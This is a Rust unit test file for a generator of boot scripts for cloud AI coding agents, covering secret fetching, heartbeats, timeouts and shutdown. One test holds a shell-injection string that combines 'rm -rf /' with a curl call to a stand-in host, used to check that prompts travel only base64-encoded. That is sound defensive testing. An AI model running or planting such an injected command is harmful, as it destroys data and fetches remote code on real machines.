// SPDX-License-Identifier: BUSL-1.1
// Copyright (c) 2026 Alfred Jean LLC

use super::*;
use crate::broker::SecretHandle;
use fleet_core::{AgentId, Backend, TaskSpec};

fn handles(backend: Backend) -> Vec<SecretHandle> {
    vec![
        SecretHandle::for_backend("anthropic-api-key", true, backend),
        SecretHandle::for_backend("fleet-auth-token", true, backend),
        SecretHandle::for_backend("github-token", false, backend),
    ]
}

fn params<'a>(
    id: &'a AgentId,
    task: &'a TaskSpec,
    secrets: &'a [SecretHandle],
    backend: Backend,
) -> BootParams<'a> {
    BootParams {
        agent_id: id,
        task,
        backend,
        control_plane_url: "http://10.0.0.2:7431",
        secrets,
        auth_secret: "fleet-auth-token",
    }
}

#[test]
fn generation_is_deterministic() {
    let id = AgentId::new();
    let task = TaskSpec::new("build a web app");
    let secrets = handles(Backend::Gce);
    let p = params(&id, &task, &secrets, Backend::Gce);
    assert_eq!(generate(&p), generate(&p));
}

#[test]
fn each_handle_is_read_exactly_once() {
    let id = AgentId::new();
    let task = TaskSpec::new("task");
    let secrets = handles(Backend::Gce);
    let script = generate(&params(&id, &task, &secrets, Backend::Gce));

    for key in ["anthropic-api-key", "fleet-auth-token", "github-token"] {
        let fetches = script.matches(&format!("attributes/{key}")).count();
        assert_eq!(fetches, 1, "{key} fetched {fetches} times");
    }
}

#[test]
fn kubernetes_handles_read_from_env_not_metadata() {
    let id = AgentId::new();
    let task = TaskSpec::new("task");
    let secrets = handles(Backend::Kubernetes);
    let script = generate(&params(&id, &task, &secrets, Backend::Kubernetes));

    assert!(!script.contains("metadata.google.internal"));
    assert!(script.contains("ANTHROPIC_API_KEY=\"${ANTHROPIC_API_KEY:-}\""));
}

#[test]
fn missing_required_credential_fails_before_task() {
    let id = AgentId::new();
    let task = TaskSpec::new("task");
    let secrets = handles(Backend::Gce);
    let script = generate(&params(&id, &task, &secrets, Backend::Gce));

    let guard = script.find("finish failed 'missing required credential: anthropic-api-key'");
    let running = script.find("report running");
    assert!(guard.is_some());
    assert!(guard.unwrap() < running.unwrap(), "credential check must precede running report");
    // Optional handle gets no guard.
    assert!(!script.contains("missing required credential: github-token"));
}

#[test]
fn running_heartbeat_precedes_task_body() {
    let id = AgentId::new();
    let task = TaskSpec::new("task");
    let secrets = handles(Backend::Gce);
    let script = generate(&params(&id, &task, &secrets, Backend::Gce));

    let running = script.find("report running").unwrap();
    let task_exec = script.find("timeout \"$TIMEOUT_SECS\"").unwrap();
    assert!(running < task_exec);
}

#[test]
fn terminal_report_is_sentinel_guarded() {
    let id = AgentId::new();
    let task = TaskSpec::new("task");
    let secrets = handles(Backend::Gce);
    let script = generate(&params(&id, &task, &secrets, Backend::Gce));

    assert!(script.contains("TERMINAL_REPORTED=0"));
    // Every terminal outcome goes through finish(), never report directly.
    assert!(script.contains("finish completed"));
    assert!(script.contains("finish failed \"timed out after"));
    assert!(script.contains("finish failed \"task exited with code"));
    assert_eq!(script.matches("report \"$1\"").count(), 1);
}

#[test]
fn hostile_prompt_travels_base64_only() {
    let id = AgentId::new();
    let hostile = "'; rm -rf / #\n$(curl evil)";
    let task = TaskSpec::new(hostile);
    let secrets = handles(Backend::Gce);
    let script = generate(&params(&id, &task, &secrets, Backend::Gce));

    assert!(!script.contains("rm -rf"));
    assert!(!script.contains("curl evil"));
    let b64 = B64.encode(hostile.as_bytes());
    assert!(script.contains(&b64));
}

#[test]
fn timeout_commits_checkpoint_before_reporting() {
    let id = AgentId::new();
    let task = TaskSpec::new("task");
    let secrets = handles(Backend::Gce);
    let script = generate(&params(&id, &task, &secrets, Backend::Gce));

    let commit = script.find("checkpoint: timeout budget expired").unwrap();
    let report = script.find("finish failed \"timed out after").unwrap();
    assert!(commit < report);
}

#[test]
fn gce_self_terminates_unless_keep_alive() {
    let id = AgentId::new();
    let task = TaskSpec::new("task");
    let secrets = handles(Backend::Gce);
    let script = generate(&params(&id, &task, &secrets, Backend::Gce));

    assert!(script.contains("shutdown -h now"));
    let keep_alive_gate = script.find("KEEP_ALIVE\" -eq 1").unwrap();
    let shutdown = script.find("shutdown -h now").unwrap();
    assert!(keep_alive_gate < shutdown);
}

#[test]
fn kubernetes_script_exits_instead_of_shutdown() {
    let id = AgentId::new();
    let task = TaskSpec::new("task");
    let secrets = handles(Backend::Kubernetes);
    let script = generate(&params(&id, &task, &secrets, Backend::Kubernetes));
    assert!(!script.contains("shutdown -h now"));
    assert!(script.trim_end().ends_with("exit \"$RC\""));
}

#[test]
fn codex_engine_installs_codex_cli() {
    let id = AgentId::new();
    let mut task = TaskSpec::new("task");
    task.engine = fleet_core::Engine::Codex;
    let secrets = handles(Backend::Gce);
    let script = generate(&params(&id, &task, &secrets, Backend::Gce));
    assert!(script.contains("@openai/codex"));
    assert!(!script.contains("@anthropic-ai/claude-code"));
}
